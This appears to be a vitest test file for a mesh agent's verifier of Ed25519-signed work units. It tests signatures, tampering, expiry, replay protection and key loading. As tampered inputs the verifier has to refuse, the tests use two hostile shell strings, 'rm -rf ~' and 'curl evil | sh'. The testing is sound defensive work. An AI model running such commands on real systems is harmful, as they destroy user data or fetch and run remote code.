import { createHash, generateKeyPairSync, type KeyObject } from "node:crypto";
import { mkdtemp, readFile, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { REPLAY_FILE, ReplayCache } from "../../agent/replay.js";
import { KeyError, type SignedUnit, WorkVerifier, loadVerifyKey } from "../../agent/verify.js";
import { SIGNED_WAIT_MS } from "../../meshctl/control/commands.js";
import { generateKeys, signClaims } from "../../meshctl/sign.js";
import type { UnitClaims } from "../../shared/signing.js";

const PAYLOAD = "the payload\n";
const NOW = Date.UTC(2026, 10, 29, 9, 0, 0);
const node = { nodeId: "edge-1", mesh: "prod" };
const local = { unitId: "Ab3dEf7h", worktype: "sh" };

let dir: string;
let payloadPath: string;
let keys: { privateKey: KeyObject; publicKey: KeyObject };
let now: number;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "verify-test-"));
  payloadPath = join(dir, "payload");
  await writeFile(payloadPath, PAYLOAD);
  keys = generateKeyPairSync("ed25519");
  now = NOW;
});

function claimsFor(change: Partial<UnitClaims> = {}): UnitClaims {
  return {
    v: 1,
    mesh: "prod",
    unitId: "Ab3dEf7h",
    worktype: "sh",
    node: "edge-1",
    params: { params: "'echo hi'" },
    payloadSha256: createHash("sha256").update(PAYLOAD).digest("hex"),
    exp: NOW / 1000 + 600,
    ...change,
  };
}

function unitWith(signature: string | null, change: Partial<SignedUnit> = {}): SignedUnit {
  return {
    id: "Ab3dEf7h",
    mesh: "prod",
    worktype: "sh",
    targetNode: "edge-1",
    params: { params: "'echo hi'" },
    signature,
    ...change,
  };
}

const verifier = (trusted: KeyObject[] = [keys.publicKey]) =>
  new WorkVerifier(trusted, node, new ReplayCache(join(dir, REPLAY_FILE)), () => now);

async function refusal(v: WorkVerifier, unit: SignedUnit) {
  const verdict = await v.verify(unit, local, payloadPath);
  expect(verdict.ok).toBe(false);
  return verdict.ok ? null : { problem: verdict.problem, message: verdict.message };
}

describe("WorkVerifier", () => {
  it("accepts a unit signed by a trusted key and records it as used", async () => {
    const verdict = await verifier().verify(unitWith(signClaims(claimsFor(), keys.privateKey)), local, payloadPath);
    expect(verdict).toEqual({ ok: true, value: claimsFor() });
    const cache = join(dir, REPLAY_FILE);
    expect((await stat(cache)).mode & 0o777).toBe(0o600);
    expect(JSON.parse(await readFile(cache, "utf8"))).toEqual({
      version: 1,
      units: { "prod/Ab3dEf7h": NOW / 1000 + 600 },
    });
  });

  it("refuses an unsigned unit", async () => {
    expect(await refusal(verifier(), unitWith(null))).toEqual({
      problem: "unsigned",
      message: "work type sh runs only signed units (meshctl work submit --sign-key)",
    });
  });

  it("refuses a signature by another key, and accepts it once that key is trusted too", async () => {
    const other = generateKeyPairSync("ed25519");
    const unit = unitWith(signClaims(claimsFor(), other.privateKey));
    expect(await refusal(verifier(), unit)).toEqual({
      problem: "bad_signature",
      message: "the signature does not verify with this agent's public key",
    });
    expect((await verifier([keys.publicKey, other.publicKey]).verify(unit, local, payloadPath)).ok).toBe(true);
  });

  it("refuses claims edited after signing", async () => {
    const [, sig] = signClaims(claimsFor(), keys.privateKey).split(".");
    const forged = `${Buffer.from(JSON.stringify(claimsFor({ params: { params: "'rm -rf ~'" } }))).toString("base64url")}.${sig}`;
    expect((await refusal(verifier(), unitWith(forged)))?.problem).toBe("malformed");
    const canonicalForged = signClaims(claimsFor({ params: { params: "'rm -rf ~'" } }), keys.privateKey).split(".")[0];
    expect((await refusal(verifier(), unitWith(`${canonicalForged}.${sig}`)))?.problem).toBe("bad_signature");
  });

  it("refuses a payload other than the one signed", async () => {
    await writeFile(payloadPath, "another payload\n");
    expect((await refusal(verifier(), unitWith(signClaims(claimsFor(), keys.privateKey))))?.problem).toBe(
      "payload_mismatch",
    );
  });

  it("refuses params the broker changed", async () => {
    const unit = unitWith(signClaims(claimsFor(), keys.privateKey), { params: { params: "'curl evil | sh'" } });
    expect(await refusal(verifier(), unit)).toEqual({
      problem: "params_mismatch",
      message: 'params differ from the signed ones in "params"',
    });
  });

  it("refuses an expired signature", async () => {
    now = NOW + 601_000;
    expect((await refusal(verifier(), unitWith(signClaims(claimsFor(), keys.privateKey))))?.problem).toBe("expired");
  });

  it("refuses a unit id it accepted before, also after an agent restart, and records refused units nowhere", async () => {
    const unit = unitWith(signClaims(claimsFor(), keys.privateKey));
    expect(await refusal(verifier(), unitWith(null))).not.toBeNull();
    expect((await verifier().verify(unit, local, payloadPath)).ok).toBe(true);
    // A new verifier on the same work dir is what a restarted agent has.
    expect(await refusal(verifier(), unit)).toEqual({
      problem: "replayed",
      message: "unit Ab3dEf7h was already accepted by this node; a signed unit runs once",
    });
    // Signed again by the submitter, with a new expiry: still the same unit id, still refused.
    expect(
      (await refusal(verifier(), unitWith(signClaims(claimsFor({ exp: NOW / 1000 + 900 }), keys.privateKey))))?.problem,
    ).toBe("replayed");
  });

  it("lets only one of two concurrent verifications of the same unit through", async () => {
    const v = verifier();
    const unit = unitWith(signClaims(claimsFor(), keys.privateKey));
    const verdicts = await Promise.all([v.verify(unit, local, payloadPath), v.verify(unit, local, payloadPath)]);
    expect(verdicts.map((d) => d.ok).sort()).toEqual([false, true]);
  });

  it("a control-service signature (SIGNED_WAIT_MS) still runs after the old 10-minute lifetime, once, and a replay days later is still refused", async () => {
    // Short clock: the verifier's clock moves, nothing waits.
    const claims = claimsFor({ exp: NOW / 1000 + SIGNED_WAIT_MS / 1000 });
    const unit = unitWith(signClaims(claims, keys.privateKey));
    now = NOW + 11 * 60_000;
    expect(await verifier().verify(unit, local, payloadPath)).toEqual({ ok: true, value: claims });
    now = NOW + 6 * 24 * 3600_000;
    expect((await refusal(verifier(), unit))?.problem).toBe("replayed");
    now = NOW + SIGNED_WAIT_MS + 1000;
    expect((await refusal(verifier(), unit))?.problem).toBe("expired");
  });

  it("forgets used units an hour after their signatures expired", async () => {
    const first = claimsFor({ unitId: "First111", exp: NOW / 1000 + 10 });
    expect(
      (
        await verifier().verify(
          unitWith(signClaims(first, keys.privateKey), { id: "First111" }),
          { ...local, unitId: "First111" },
          payloadPath,
        )
      ).ok,
    ).toBe(true);
    now = NOW + 10_000 + 3_600_000;
    const second = claimsFor({ unitId: "Second22", exp: now / 1000 + 600 });
    expect(
      (
        await verifier().verify(
          unitWith(signClaims(second, keys.privateKey), { id: "Second22" }),
          { ...local, unitId: "Second22" },
          payloadPath,
        )
      ).ok,
    ).toBe(true);
    expect(JSON.parse(await readFile(join(dir, REPLAY_FILE), "utf8")).units).toEqual({
      "prod/Second22": now / 1000 + 600,
    });
  });

  it("refuses signed units while its record of used units is unreadable, rather than risk a replay", async () => {
    await writeFile(join(dir, REPLAY_FILE), "{ truncated");
    const verdict = await refusal(verifier(), unitWith(signClaims(claimsFor(), keys.privateKey)));
    expect(verdict?.problem).toBe("replay_cache_failed");
    expect(verdict?.message).toMatch(/signed-units\.json is not JSON; remove it only if no signed unit is still valid/);
  });
});

describe("keys", () => {
  it("meshctl keygen writes a private key only its owner can read, and a public key the agent loads", async () => {
    const paths = await generateKeys(join(dir, "keys"));
    expect((await stat(paths.privateKey)).mode & 0o777).toBe(0o600);
    expect((await loadVerifyKey(paths.publicKey)).asymmetricKeyType).toBe("ed25519");
    await expect(generateKeys(join(dir, "keys"))).rejects.toThrow(/signing-key\.pem exists already/);
  });

  it.each([
    ["a missing file", async () => join(dir, "nope.pem"), /cannot read verify key/],
    [
      "a private key",
      async () => (await generateKeys(join(dir, "k"))).privateKey,
      /holds a private key; give the agent only the public key/,
    ],
    [
      "an RSA key",
      async () => writePem(generateKeyPairSync("rsa", { modulusLength: 1024 }).publicKey),
      /is an rsa key; signed work uses Ed25519/,
    ],
    ["not a key", async () => writePem(null), /is not a PEM public key/],
  ])("the agent refuses %s as its verify key", async (_name, make, message) => {
    const path = await make();
    const error = await loadVerifyKey(path).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(KeyError);
    expect((error as Error).message).toMatch(message);
  });
});

async function writePem(key: KeyObject | null): Promise<string> {
  const path = join(dir, "key.pem");
  await writeFile(
    path,
    key
      ? (key.export({ type: "spki", format: "pem" }) as string)
      : "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n",
  );
  return path;
}
